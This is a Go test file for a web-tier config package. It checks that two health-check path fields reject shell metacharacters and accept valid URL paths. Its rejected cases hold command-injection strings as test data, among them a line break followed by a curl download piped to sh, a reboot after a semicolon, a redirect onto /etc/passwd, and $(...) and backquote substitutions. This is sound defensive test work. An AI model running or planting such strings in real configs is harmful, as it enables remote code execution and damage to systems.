package config_test

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/platformstarter/elastic-web-tier/constructs/config"
)

// TestHealthPathRefused: a health path holds only "/" and RFC 3986 path
// characters no shell reads. Each refused value is reported on its field
// with the value quoted, the first character not allowed and the allowed
// set; compute.health_path and alb.health_check.path are checked alike.
func TestHealthPathRefused(t *testing.T) {
	cases := []struct {
		name, path string
		want       string // the character (as Go quotes it) or the problem
	}{
		{"command substitution", "/h$(touch /tmp/x)", `has '$' at character 3`},
		{"line break then a pipe to sh", "/h\ncurl -s https://203.0.113.9/x | sh", `has '\n' at character 3`},
		{"backquotes", "/`id`", "has '`' at character 2"},
		{"semicolon", "/a;reboot", `has ';' at character 3`},
		{"ampersand", "/a&b", `has '&' at character 3`},
		{"pipe", "/a|b", `has '|' at character 3`},
		{"redirect out", "/a>/etc/passwd", `has '>' at character 3`},
		{"redirect in", "/a<b", `has '<' at character 3`},
		{"parenthesis", "/a(b)", `has '(' at character 3`},
		{"single quote", "/a'b", `has '\'' at character 3`},
		{"double quote", `/a"b`, `has '"' at character 3`},
		{"backslash", `/a\b`, `has '\\' at character 3`},
		{"glob star", "/a*", `has '*' at character 3`},
		{"glob question mark (a query)", "/a?x=1", `has '?' at character 3`},
		{"history expansion", "/a!b", `has '!' at character 3`},
		{"tilde expansion", "/~user", `has '~' at character 2`},
		{"fragment", "/a#b", `has '#' at character 3`},
		{"brace expansion", "/{a,b}", `has '{' at character 2`},
		{"space", "/a b", `has ' ' at character 3`},
		{"tab", "/a\tb", `has '\t' at character 3`},
		{"carriage return", "/a\rb", `has '\r' at character 3`},
		{"delete", "/a\x7f", `has '\x7f' at character 3`},
		{"percent sign alone", "/100%", "has % not followed by two hex digits at character 5"},
		{"percent with one hex digit", "/%4", "has % not followed by two hex digits at character 2"},
		{"percent with non-hex", "/%zz", "has % not followed by two hex digits at character 2"},
		{"non-ASCII letter", "/gesundheit-ä", `has 'ä' at character 13`},
		{"no leading slash", "health", "must start with /"},
	}
	for _, field := range []string{"compute.health_path", "alb.health_check.path"} {
		for _, c := range cases {
			t.Run(field+"/"+c.name, func(t *testing.T) {
				_, ce := problemsOf(t, build(t, "", field, strconv.Quote(c.path)))
				if ce == nil {
					t.Fatalf("%s %q accepted; want it refused with %q", field, c.path, c.want)
				}
				if len(ce.Problems) != 1 {
					t.Fatalf("got %d problems, want 1 (on %s):\n%v", len(ce.Problems), field, ce)
				}
				p := ce.Problems[0]
				msg := p.String()
				if p.Field != field {
					t.Errorf("problem on %q, want %q: %s", p.Field, field, msg)
				}
				for _, w := range []string{strconv.Quote(c.path), c.want, "allowed: " + config.HealthPathChars} {
					if !strings.Contains(msg, w) {
						t.Errorf("problem %q does not contain %q", msg, w)
					}
				}
			})
		}
	}
}

// TestHealthPathsBothReported: a bad compute.health_path and a different
// bad alb.health_check.path are two problems of one run.
func TestHealthPathsBothReported(t *testing.T) {
	_, ce := problemsOf(t, build(t, "", "compute.health_path", `"/a$b"`, "alb.health_check.path", `"/c;d"`))
	if ce == nil || len(ce.Problems) != 2 {
		t.Fatalf("got %v, want 2 problems (compute.health_path and alb.health_check.path)", ce)
	}
	got := []string{ce.Problems[0].Field, ce.Problems[1].Field}
	slices.Sort(got)
	if want := []string{"alb.health_check.path", "compute.health_path"}; !slices.Equal(got, want) {
		t.Errorf("problems on %v, want %v", got, want)
	}
}

// TestEmptyHealthPath: an empty compute.health_path is refused; an empty
// alb.health_check.path follows compute.health_path.
func TestEmptyHealthPath(t *testing.T) {
	_, ce := problemsOf(t, build(t, "", "compute.health_path", `""`))
	if ce == nil || len(ce.Problems) != 1 || ce.Problems[0].Field != "compute.health_path" || !strings.Contains(ce.Problems[0].String(), `"" must start with /`) {
		t.Errorf("empty compute.health_path: got %v, want one problem on compute.health_path saying it must start with /", ce)
	}
	checkAccepted(t, []acceptedCase{{"empty load balancer path", []string{"alb.health_check.path", `""`}, "alb.health_check.path", "/health"}})
}

// TestHealthPathAccepted: every character of the allowed set, percent
// escapes and the edge lengths load unchanged.
func TestHealthPathAccepted(t *testing.T) {
	long := "/" + strings.Repeat("a", 1023)
	checkAccepted(t, []acceptedCase{
		{"root", []string{"compute.health_path", "/"}, "compute.health_path", "/"},
		{"every allowed character", []string{"compute.health_path", `"/AZaz09-._/:@+,="`}, "compute.health_path", "/AZaz09-._/:@+,="},
		{"percent escapes", []string{"compute.health_path", `"/a%2Fb%7e"`}, "compute.health_path", "/a%2Fb%7e"},
		{"1024 characters", []string{"compute.health_path", long}, "compute.health_path", long},
		{"load balancer path of its own", []string{"alb.health_check.path", "/lb/ready"}, "alb.health_check.path", "/lb/ready"},
	})
}

// TestCheckHealthPath: the exported check agrees with validation, so the
// renderer's tests draw from exactly what a config may hold.
func TestCheckHealthPath(t *testing.T) {
	for _, c := range []struct {
		path string
		ok   bool
	}{
		{"/health", true}, {"/a%20b", true}, {"/", true},
		{"/a b", false}, {"/a%2", false}, {"a", false}, {"/h$(id)", false}, {"/" + strings.Repeat("a", 1024), false},
	} {
		if got := config.CheckHealthPath(c.path); (got == "") != c.ok {
			t.Errorf("CheckHealthPath(%q) = %q, want ok=%v", c.path, got, c.ok)
		}
	}
}
